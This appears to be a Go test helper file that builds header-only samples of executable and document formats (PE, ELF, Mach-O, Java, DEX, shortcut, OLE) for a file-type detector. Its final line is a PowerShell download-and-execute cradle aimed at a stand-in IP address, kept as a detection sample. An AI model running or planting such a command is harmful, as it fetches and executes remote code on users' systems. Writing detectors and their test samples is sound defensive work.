package filetype_test

import (
	"encoding/binary"
	"strings"
)

// The samples are headers as linkers write them, and nothing behind: none of them runs.

func samplePE(lfanew int) []byte {
	p := make([]byte, lfanew+64)
	copy(p, "MZ\x90\x00\x03")
	binary.LittleEndian.PutUint32(p[60:], uint32(lfanew))
	copy(p[lfanew:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(p[lfanew+4:], 0x8664)
	binary.LittleEndian.PutUint16(p[lfanew+6:], 3)
	binary.LittleEndian.PutUint16(p[lfanew+24:], 0x20b)
	return p
}

func sampleDOS() []byte {
	p := make([]byte, 256)
	copy(p, "MZ\x90\x00\x03")
	copy(p[64:], "\x0e\x1f\xba\x0e\x00This program cannot be run in DOS mode.\r\r\n$")
	binary.LittleEndian.PutUint32(p[60:], 200)
	return p
}

func sampleELF(order binary.ByteOrder, kind, machine uint16) []byte {
	p := make([]byte, 64)
	copy(p, "\x7fELF\x02\x01\x01")
	if order == binary.BigEndian {
		p[5] = 2
	}
	order.PutUint16(p[16:], kind)
	order.PutUint16(p[18:], machine)
	return p
}

func sampleMachO(order binary.ByteOrder) []byte {
	p := make([]byte, 64)
	for i, v := range []uint32{0xfeedfacf, 0x0100000c, 0, 2, 16, 1024} {
		order.PutUint32(p[4*i:], v)
	}
	return p
}

func sampleFat(n uint32) []byte {
	p := make([]byte, 64)
	for i, v := range []uint32{0xcafebabe, n, 0x01000007, 3, 4096, 8192, 12} {
		binary.BigEndian.PutUint32(p[4*i:], v)
	}
	return p
}

func sampleJava(major uint16) []byte {
	p := make([]byte, 64)
	binary.BigEndian.PutUint32(p, 0xcafebabe)
	binary.BigEndian.PutUint16(p[6:], major)
	copy(p[8:], "\x00\x07\x0a\x00\x02") // constant pool
	return p
}

func sampleDEX() []byte {
	p := make([]byte, 112)
	copy(p, "dex\n035\x00")
	binary.LittleEndian.PutUint32(p[36:], 112)
	binary.LittleEndian.PutUint32(p[40:], 0x12345678)
	return p
}

func sampleShortcut() []byte {
	return append([]byte("\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 56)...)
}

func sampleCompound(directory uint32, class string) []byte {
	p := make([]byte, (directory+2)*512)
	copy(p, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	copy(p[26:], "\x03\x00\xfe\xff\x09\x00")
	binary.LittleEndian.PutUint32(p[48:], directory)
	copy(p[(directory+1)*512+80:], class)
	return p
}

const installerClass = "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

const powerShell = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
